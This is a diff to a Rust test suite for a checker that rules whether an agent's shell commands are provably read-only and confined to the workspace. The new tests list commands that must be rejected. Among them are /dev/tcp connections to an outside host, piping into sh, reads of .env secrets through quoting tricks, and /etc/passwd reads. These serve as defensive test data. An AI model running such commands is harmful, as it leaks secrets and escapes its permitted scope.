@@ -70,7 +70,7 @@ fn observers_are_proven_read_only() {
             "cat README.md | head -20",
             "grep -rn foo src",
             "grep -rn 'fn main' src && wc -l src/main.rs src/lib.rs",
-            "rg TODO --type rust",
+            "rg TODO --type rust src",
             "rg -n -e foo src",
             "git status",
             "git status --short -b",
@@ -83,7 +83,6 @@ fn observers_are_proven_read_only() {
             "git branch -vv",
             "git rev-parse --show-toplevel",
             "git ls-files src",
-            "git grep -n foo -- src",
             "find . -name '*.rs' -type f",
             "find src -maxdepth 1 -type d -print",
             "sed -n '1,20p' src/main.rs",
@@ -367,6 +366,85 @@ fn paths_outside_the_workspace_or_sensitive_are_not_proven() {
             "sed -n 1p /etc/passwd",
             "rg foo /etc",
             "stat ../outside.txt",
+        ],
+        false,
+    );
+}
+
+#[test]
+fn recursive_searches_over_a_directory_holding_a_secret_are_not_proven() {
+    let f = fixture();
+    // The workspace root holds `.env` and a hard link to a file outside.
+    f.check(
+        "recursive searches",
+        &[
+            "grep -r KEY .",
+            "grep -rn KEY",
+            "diff . src",
+            "grep --recursive KEY .",
+            "rg KEY",
+            "rg KEY .",
+            "rg -e KEY",
+            "git grep KEY",
+        ],
+        false,
+    );
+    // `src` holds neither.
+    f.check(
+        "recursive searches of a clean directory",
+        &["grep -rn fn src", "rg fn src", "grep fn src/main.rs"],
+        true,
+    );
+    let secret_below = f.guard.root().join("src/nested/.env");
+    std::fs::create_dir_all(secret_below.parent().unwrap()).unwrap();
+    std::fs::write(&secret_below, "API_KEY=x\n").unwrap();
+    f.check(
+        "a secret deeper down",
+        &["grep -rn fn src", "rg fn src"],
+        false,
+    );
+}
+
+#[test]
+fn other_spellings_an_attacker_might_try_are_not_proven() {
+    fixture().check(
+        "grab bag",
+        &[
+            "cat README.md > /dev/stdout",
+            "cat README.md | sh",
+            "cat < /dev/tcp/example.com/80",
+            "echo x > /dev/tcp/example.com/80",
+            "ls ~+",
+            "cat README.md ${x:-}",
+            "sed -n 1p README.md -i.bak",
+            "sed -n p --in-place=x README.md",
+            "grep --exclude-from=x foo src",
+            "rg --pre-glob '*' foo src",
+            "rg --hostname-bin=x foo src",
+            "rg -L foo src",
+            "grep -R foo src",
+            "test -f README.md -o -v x",
+            "exec ls",
+            "cd src && ls",
+            "source x",
+            ". ./x",
+            "ls -la src 3>x",
+            "git log --output=x",
+            "git log --ext-diff -p",
+            "git --version",
+            "git diff --color-moved",
+            "git status; GIT_DIR=x git log",
+            "find . -newer ../x",
+            "find . -files0-from x",
+            "date -f dates.txt",
+            "date -r ../outside.txt",
+            "sha256sum -c sums.txt",
+            "file -f list.txt",
+            "du --files0-from=x",
+            "wc --files0-from=x",
+            "head -n 1 README.md .env",
+            "'cat' .env",
+            "c\\at .env",
         ],
         false,
     );
